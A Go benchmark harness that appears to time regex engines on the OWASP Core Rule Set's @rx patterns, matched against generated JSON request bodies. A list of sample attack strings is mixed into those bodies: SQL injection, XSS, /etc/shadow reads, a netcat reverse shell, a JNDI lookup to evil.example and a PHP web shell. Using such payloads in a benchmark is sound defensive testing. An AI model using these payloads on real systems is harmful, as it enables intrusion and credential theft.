package harness

import (
	"errors"
	"fmt"
	"io/fs"
	"path"
	"regexp"
	"regexp/syntax"
	"slices"
	"strings"
	"sync"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
)

// The real-world suite: every @rx pattern of the OWASP Core Rule Set (as
// embedded by github.com/corazawaf/coraza-coreruleset/v4), matched against
// request bodies.

// CRSSet is the outcome of extracting the @rx patterns.
type CRSSet struct {
	// Patterns are the distinct patterns the standard library compiles, in
	// the order of the rule files.
	Patterns []string
	// Found counts the @rx operators read (with duplicates).
	Found int
	// Duplicates counts operators whose pattern was already seen.
	Duplicates int
	// Skipped counts the distinct patterns left out, by reason.
	Skipped map[string]int
	// Files is the number of rule files read.
	Files int
}

var crsOnce = sync.OnceValues(loadCRS)

// CRS returns the Core Rule Set's @rx patterns.
func CRS() (*CRSSet, error) { return crsOnce() }

func loadCRS() (*CRSSet, error) {
	set := &CRSSet{Skipped: map[string]int{}}
	seen := map[string]bool{}
	files, err := fs.Glob(coreruleset.FS, "@owasp_crs/*.conf")
	if err != nil {
		return nil, err
	}
	if len(files) == 0 {
		return nil, errors.New("crs: no rule file in the embedded Core Rule Set")
	}
	slices.Sort(files)
	for _, name := range files {
		data, err := fs.ReadFile(coreruleset.FS, name)
		if err != nil {
			return nil, fmt.Errorf("crs: %s: %w", path.Base(name), err)
		}
		set.Files++
		for _, p := range rxOperators(string(data)) {
			set.Found++
			if seen[p] {
				set.Duplicates++
				continue
			}
			seen[p] = true
			if strings.Contains(p, "%{") {
				set.Skipped["macro expanded at run time (%{...})"]++
				continue
			}
			if _, err := regexp.Compile(p); err != nil {
				reason := err.Error()
				var se *syntax.Error
				if errors.As(err, &se) {
					reason = string(se.Code)
					if se.Code == syntax.ErrInvalidPerlOp || se.Code == syntax.ErrInvalidEscape {
						reason += " " + clipExpr(se.Expr)
					}
				}
				set.Skipped["standard library rejects: "+reason]++
				continue
			}
			set.Patterns = append(set.Patterns, p)
		}
	}
	return set, nil
}

func clipExpr(s string) string {
	if len(s) > 4 {
		s = s[:4]
	}
	return "`" + s + "`"
}

// rxOperators returns the argument of every @rx operator (negated or not)
// of the SecRule directives in a ModSecurity configuration.
func rxOperators(conf string) []string {
	// Join continuation lines: a backslash at the end of a line.
	var logical []string
	var cur strings.Builder
	for _, line := range strings.Split(conf, "\n") {
		line = strings.TrimRight(line, " \t\r")
		if strings.HasSuffix(line, "\\") {
			cur.WriteString(line[:len(line)-1])
			continue
		}
		cur.WriteString(line)
		logical = append(logical, cur.String())
		cur.Reset()
	}
	var out []string
	for _, l := range logical {
		l = strings.TrimSpace(l)
		if !strings.HasPrefix(l, "SecRule ") {
			continue
		}
		// SecRule VARIABLES "OPERATOR" "ACTIONS": the operator is the first
		// quoted string.
		start := strings.IndexByte(l, '"')
		if start < 0 {
			continue
		}
		op, ok := quoted(l[start+1:])
		if !ok {
			continue
		}
		op = strings.TrimPrefix(op, "!")
		if rest, ok := strings.CutPrefix(op, "@rx "); ok {
			out = append(out, rest)
		}
	}
	return out
}

// quoted returns the text up to the first double quote that no backslash
// escapes. Escapes are kept: `\"` is a valid escape in Go's syntax too.
func quoted(s string) (string, bool) {
	for i := 0; i < len(s); i++ {
		switch s[i] {
		case '\\':
			i++
		case '"':
			return s[:i], true
		}
	}
	return "", false
}

var attacks = []string{
	`' OR '1'='1' -- `,
	`1 UNION SELECT username, password FROM users--`,
	`<script>alert(document.cookie)</script>`,
	`<img src=x onerror=alert(1)>`,
	`../../../../etc/passwd`,
	`; cat /etc/shadow`,
	`| nc -e /bin/sh 10.0.0.1 4444`,
	`${jndi:ldap://evil.example/a}`,
	`<?php system($_GET['c']); ?>`,
	`javascript:alert(1)`,
	`1; SELECT SLEEP(5)#`,
	`{{7*7}}`,
	`eval(base64_decode('ZWNobyAx'))`,
	`..%2f..%2fwindows%2fwin.ini`,
}

// crsBody is a plausible request body of n bytes: a JSON document with user
// data and comments, one note in about five carrying an attack-like
// fragment. Bodies of 16 bytes are the start of the same document.
func crsBody(n int) []byte {
	return cached("crs", n, func(n int) []byte {
		r := newRand(4)
		var sb strings.Builder
		sb.Grow(n + 256)
		sb.WriteString(`{"user":{"name":"Jane Doe","email":"jane.doe@example.org","id":48213},"items":[`)
		for i := 0; sb.Len() < n; i++ {
			if i > 0 {
				sb.WriteByte(',')
			}
			var text strings.Builder
			for range 4 + r.IntN(12) {
				text.WriteString(words[r.IntN(len(words))])
				text.WriteByte(' ')
			}
			if r.IntN(5) == 0 {
				text.WriteString(attacks[r.IntN(len(attacks))])
			}
			fmt.Fprintf(&sb, `{"sku":"A-%05d","qty":%d,"price":%d.%02d,"note":%q}`,
				r.IntN(100000), 1+r.IntN(9), r.IntN(500), r.IntN(100), strings.TrimSpace(text.String()))
		}
		return []byte(sb.String()[:n])
	})
}

// crsCompiled caches each engine's compiled patterns for all body sizes.
var crsCompiled sync.Map // engine name → *crsEngine

type crsEngine struct {
	res    []Regexp
	failed []string // errors, for the log
}

func compileCRS(e *Engine) (*crsEngine, error) {
	if v, ok := crsCompiled.Load(e.Name); ok {
		return v.(*crsEngine), nil
	}
	set, err := CRS()
	if err != nil {
		return nil, err
	}
	ce := &crsEngine{}
	for _, p := range set.Patterns {
		re, err := e.Compile(p)
		if err != nil {
			ce.failed = append(ce.failed, fmt.Sprintf("%.60q: %v", p, err))
			ce.res = append(ce.res, nil)
			continue
		}
		ce.res = append(ce.res, re)
	}
	if e != reference {
		crsCompiled.Store(e.Name, ce)
	}
	return ce, nil
}

// bodyCases are a family's cases over request bodies of the preset's
// sizes: setup makes the run of an engine on a body.
func bodyCases(p Preset, setup func(e *Engine, body string) (*Run, error)) []Case {
	var cs []Case
	for _, n := range p.CRSSizes {
		cs = append(cs, Case{
			Name:  "body=" + decimalSizeName(n),
			Bytes: int64(n),
			Setup: func(e *Engine) (*Run, error) { return setup(e, string(crsBody(n))) },
		})
	}
	return cs
}

func init() {
	addFamily(Family{Name: "CRS", Cases: func(p Preset) []Case {
		return bodyCases(p, func(e *Engine, body string) (*Run, error) {
			ce, err := compileCRS(e)
			if err != nil {
				return nil, err
			}
			hits := func() []byte {
				out := make([]byte, len(ce.res))
				for i, re := range ce.res {
					switch {
					case re == nil:
						out[i] = '?'
					case re.MatchString(body):
						out[i] = '1'
					default:
						out[i] = '0'
					}
				}
				return out
			}
			r := &Run{
				Op: func() {
					for _, re := range ce.res {
						if re != nil {
							re.MatchString(body)
						}
					}
				},
				Result: func() string { return string(hits()) },
			}
			if len(ce.failed) > 0 {
				r.Note = fmt.Sprintf("%d of %d patterns do not compile, first: %s", len(ce.failed), len(ce.res), ce.failed[0])
			}
			return r, nil
		})
	}})
}
